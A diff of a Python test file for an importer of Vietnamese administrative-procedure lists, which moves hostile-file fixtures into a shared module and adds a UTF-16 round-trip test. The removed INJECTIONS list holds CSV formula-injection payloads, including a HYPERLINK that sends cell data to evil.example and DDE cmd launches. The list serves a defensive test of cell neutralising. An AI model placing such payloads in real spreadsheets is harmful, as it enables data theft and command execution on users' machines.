@@ -1,4 +1,4 @@
-"""The importer on hostile files, made here: a ``.xlsx`` that is no zip, a zip with no
+"""The importer on hostile files, made on the spot (``tests/hostile_files``): a ``.xlsx`` that is no zip, a zip with no
 workbook, a damaged workbook, CSVs in UTF-16/UTF-32 with and without a byte-order mark,
 formula cells with and without the result Excel keeps; every reading an assumption is shown
 and kept; and the CSVs the registry writes, with formula-like cells in them."""
@@ -9,14 +9,20 @@ import csv
 import io
 import json
 import re
-import zipfile
 from datetime import date
-from pathlib import Path
 
 import click
 import pytest
 from click.testing import CliRunner
-from openpyxl import Workbook
+from hostile_files import (
+    DATA,
+    HOSTILE_WORKBOOKS,
+    INJECTIONS,
+    LIST,
+    SAMPLE,
+    excel_unicode_text,
+    workbook_with_formulas,
+)
 
 from service.cli.registry import registry as registry_group
 from service.registry.coverage import (
@@ -29,39 +35,10 @@ from service.registry.coverage import (
 from service.registry.importer import UnreadableFile, parse_csv, parse_file, parse_xlsx
 from service.registry.normalise import normalise_tiers
 
-DATA = Path(__file__).resolve().parent / "data"
-SAMPLE = DATA / "sample_tthc_list.csv"
-LIST = ("Mã TTHC,Tên TTHC,Cấp thực hiện,Thời hạn giải quyết,Số quyết định\n"
-        "1.000001,Thủ tục một,Cấp tỉnh,20 ngày,10/QĐ-UBND\n"
-        "1.000002,Thủ tục hai,Cấp tỉnh,5 ngày làm việc,10/QĐ-UBND\n"
-        "1.000002,Thủ tục hai,Cấp xã,5 ngày làm việc,10/QĐ-UBND\n"
-        "3000410,Thủ tục ba,Cấp xã,3 ngày làm việc,10/QĐ-UBND\n")
+DATA_REAL = DATA / "tthc_lists_sample.csv"  # 135 rows of three provinces' 2025 lists
 
 
 # --- files that are not what their name says ----------------------------------------------
-
-def no_workbook_zip() -> bytes:
-    out = io.BytesIO()
-    with zipfile.ZipFile(out, "w") as archive:
-        archive.writestr("readme.txt", "nothing here")
-    return out.getvalue()
-
-
-def damaged_workbook() -> bytes:
-    out = io.BytesIO()
-    with zipfile.ZipFile(out, "w") as archive:
-        archive.writestr("[Content_Types].xml", "<Types")
-        archive.writestr("xl/workbook.xml", "<<< not xml")
-    return out.getvalue()
-
-
-HOSTILE_WORKBOOKS = {
-    "text.xlsx": (b"STT,Ma TTHC\n1,1.000001\n", "không phải sổ tính Excel (.xlsx)"),
-    "old.xlsx": (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600, "Excel 97–2003 (.xls)"),
-    "empty-zip.xlsx": (no_workbook_zip(), "không chứa sổ tính Excel"),
-    "damaged.xlsx": (damaged_workbook(), "bị hỏng"),
-}
-
 
 @pytest.mark.parametrize("name", HOSTILE_WORKBOOKS)
 def test_a_file_that_is_no_workbook_says_what_it_is(tmp_path, name):
@@ -75,14 +52,6 @@ def test_a_file_that_is_no_workbook_says_what_it_is(tmp_path, name):
 
 
 # --- encodings -------------------------------------------------------------------------------
-
-def excel_unicode_text() -> str:
-    """The sample list as Excel's «Unicode Text» writes it: tab-separated, CRLF lines."""
-    rows = list(csv.reader(io.StringIO(SAMPLE.read_text(encoding="utf-8"))))
-    out = io.StringIO()
-    csv.writer(out, delimiter="\t", lineterminator="\r\n").writerows(rows)
-    return out.getvalue()
-
 
 @pytest.mark.parametrize("encoding, prefix, said", [
     ("utf-16-le", b"\xff\xfe", "UTF-16"), ("utf-16-be", b"\xfe\xff", "UTF-16"),
@@ -109,30 +78,6 @@ def test_utf16_without_a_byte_order_mark_is_refused():
 
 
 # --- formula cells ---------------------------------------------------------------------------
-
-def workbook_with_formulas(path: Path, kept: dict[str, str] | None = None) -> None:
-    """A list whose time limit (E2) and code (B4) are formulas; ``kept``: cell → the result
-    Excel keeps, written into the sheet as Excel would after a save."""
-    book = Workbook()
-    sheet = book.active
-    sheet.append(["STT", "Mã TTHC", "Tên TTHC", "Cấp thực hiện", "Thời hạn giải quyết"])
-    sheet.append([1, "1.000001", "Cấp giấy phép", "Cấp tỉnh", '=CONCATENATE(20," ngày")'])
-    sheet.append([2, "1.000002", "Cấp lại giấy phép", "Cấp tỉnh", "15 ngày làm việc"])
-    sheet.append([3, '="1.000003"', "Gia hạn giấy phép", "Cấp tỉnh", "10 ngày làm việc"])
-    book.save(path)
-    if not kept:
-        return
-    with zipfile.ZipFile(path) as archive:
-        parts = {n: archive.read(n) for n in archive.namelist()}
-    xml = parts["xl/worksheets/sheet1.xml"].decode()
-    for cell, value in kept.items():
-        xml = re.sub(rf'(<c r="{cell}")([^>]*)>(<f>.*?</f>)(<v>.*?</v>|<v\s*/>)?</c>',
-                     rf'\1 t="str"\2>\3<v>{value}</v></c>', xml)
-    parts["xl/worksheets/sheet1.xml"] = xml.encode()
-    with zipfile.ZipFile(path, "w") as archive:
-        for name, data in parts.items():
-            archive.writestr(name, data)
-
 
 def test_a_formula_without_its_result_is_a_problem_never_an_empty_cell(tmp_path):
     path = tmp_path / "formulas.xlsx"
@@ -273,11 +218,6 @@ def test_the_command_line_reports_formula_cells(cli, tmp_path):
 
 # --- the CSVs the registry writes ------------------------------------------------------------
 
-INJECTIONS = ['=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")',
-              "@SUM(1+1)*cmd|' /C calc'!A0",
-              "+Đất đai", "-Sở Xây dựng", "=cmd|' /C notepad'!'A1'", "\tTab", "\rCR"]
-
-
 @pytest.mark.parametrize("cell", INJECTIONS)
 def test_formula_like_cells_get_a_quote(cell):
     assert neutralise(cell) == "'" + cell
@@ -325,3 +265,12 @@ def test_the_csv_for_people_speaks_vietnamese(hostile_report):
     assert keys[0][:3] == ["group", "key", "tthc"] and keys[1][-1] == "0.0"
     with pytest.raises(ValueError):
         report_to_csv(hostile_report, "fr")
+
+
+def test_the_real_lists_in_utf16_lose_no_row():
+    real = DATA_REAL.read_bytes()
+    as_utf16 = parse_csv(b"\xff\xfe" + real.decode("utf-8").encode("utf-16-le"))
+    as_utf8 = parse_csv(real)
+    assert len(as_utf8.rows) == 133 and [r.to_dict() for r in as_utf16.rows] == [
+        r.to_dict() for r in as_utf8.rows]
+    assert [p.row for p in as_utf16.problems] == [p.row for p in as_utf8.problems] == [4, 10]
